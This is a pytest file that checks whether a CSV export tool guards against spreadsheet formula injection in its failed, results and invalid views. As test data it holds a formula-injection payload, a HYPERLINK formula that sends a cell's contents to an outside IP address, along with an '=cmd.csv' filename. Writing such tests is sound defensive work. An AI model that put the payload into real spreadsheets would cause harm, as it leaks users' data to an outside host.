"""Views that people open in a spreadsheet: nothing that others wrote is a formula there."""

import csv
from pathlib import Path

import pytest
from bench import Bench, fault, make_rows

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
FORMULA = '=HYPERLINK("http://203.0.113.9/?"&A1;"click")'
OWN = {"face_id", "external_fields.age", "note"}


def cells(path: Path) -> list[tuple[str, str]]:
    """Return every cell of a view with its column's name, the header's own too."""
    with path.open(encoding="utf-8", newline="") as file:
        header, *rows = csv.reader(file)
    named = [(name, name) for name in header]
    return named + [pair for row in rows for pair in zip(header, row, strict=True)]


@pytest.mark.parametrize("sign", SIGNS)
def test_no_column_of_ours_holds_a_formula(bench: Bench, sign: str) -> None:
    """Whatever a service says, or a file is called; the input's own columns stay."""
    formula = sign + FORMULA[1:]
    rows = make_rows(3)
    rows[0]["note"] = formula
    rows[1]["external_fields.age"] = formula
    bench.seed([row["face_id"] for row in rows])
    source = bench.write("=cmd.csv", rows)
    told = {"code": formula, "message": f'"\t{formula}', "status": 400}
    bench.emulator.script([fault("respond", face_id="face0001", **told)])
    assert bench.run(source).code == 1
    for view in ("results", "failed", "invalid"):
        ours = [
            cell for name, cell in cells(Path(f"job/{view}.csv")) if name not in OWN
        ]
        assert ours
        assert not [cell for cell in ours if cell.startswith(tuple(f"{SIGNS}\t\r"))]
    assert bench.record().view("failed")[0]["note"] == formula
    assert bench.record().row(1)["error_code"] == f"'{formula}"[:65]
    assert bench.record().row(3)["source"] == "'=cmd.csv"


def test_a_guarded_view_is_read_back(bench: Bench) -> None:
    """failed.csv with guarded cells goes into a run as it is, and comes out the same."""
    rows = make_rows(2)
    rows[0]["note"] = "=1+1"
    bench.seed([row["face_id"] for row in rows])
    source = bench.write("faces.csv", rows)
    answer = fault("respond", face_id="face0001", code="FRS.0402", message="=1+1")
    bench.emulator.script([answer])
    bench.run(source)
    failed = (bench.folder / "job" / "failed.csv").read_bytes()
    assert b"'=1+1" in failed
    bench.emulator.script([answer])
    bench.run("job/failed.csv", "--run-dir", "again")
    [row] = bench.record("again").view("failed")
    assert row["note"] == "=1+1"
    assert row["_error_msg"] == "'=1+1"
    assert bench.command("retry", "again", "--run-dir", "third").code == 0
    assert bench.record("third").outcomes["updated"] == 1


def test_an_export_is_data(bench: Bench) -> None:
    """Its values go back into run, so they are written as FRS holds them."""
    raw = [{"face_id": "face0001", "external_fields": {"team": "-north"}}]
    bench.emulator.state.seed_faces("staff", raw)
    ended = bench.command("export", "staff", "-o", "faces.csv", *bench.target[:4])
    assert ended.code == 0, ended
    assert ("external_fields.team", "-north") in cells(Path("faces.csv"))
    assert bench.run("faces.csv").code == 0
    assert bench.stored("face0001")["team"] == "-north"
